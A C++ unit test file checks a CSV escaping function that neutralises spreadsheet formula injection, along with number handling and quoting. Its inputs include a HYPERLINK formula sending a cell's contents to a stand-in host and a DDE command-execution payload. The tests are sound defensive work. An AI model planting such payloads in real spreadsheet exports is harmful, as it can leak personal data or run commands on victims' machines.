// CSV cells a spreadsheet cannot run (common/include/henvis/csv.hpp): the
// centres' contact lists carry names a person gave at the roadside.
#include <catch2/catch.hpp>

#include "henvis/csv.hpp"

using henvis::csv::cell;

TEST_CASE("A CSV cell a spreadsheet would read as a formula starts with an apostrophe",
          "[csv][security]") {
  CHECK(cell("=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")") ==
        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klik\"\")\"");
  CHECK(cell("+SUM(A1)") == "'+SUM(A1)");
  CHECK(cell("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0");
  CHECK(cell("@SUM(A1)") == "'@SUM(A1)");
  CHECK(cell("\tx") == "'\tx");
  CHECK(cell("\r=1") == "\"'\r=1\"");
}

TEST_CASE("A CSV cell that is only a number, such as a phone number, is left as it is", "[csv]") {
  CHECK(cell("+45 22 33 44 55") == "+45 22 33 44 55");
  CHECK(cell("+4522334455") == "+4522334455");
  CHECK(cell("-12.5") == "-12.5");
  CHECK(cell("Jens Testesen") == "Jens Testesen");
  CHECK(cell("") == "");
}

TEST_CASE("A CSV cell with a comma, quote or line break is quoted, quotes doubled", "[csv]") {
  CHECK(cell("Hansen, Jens") == "\"Hansen, Jens\"");
  CHECK(cell("say \"hej\"") == "\"say \"\"hej\"\"\"");
  CHECK(cell("a\nb") == "\"a\nb\"");
}
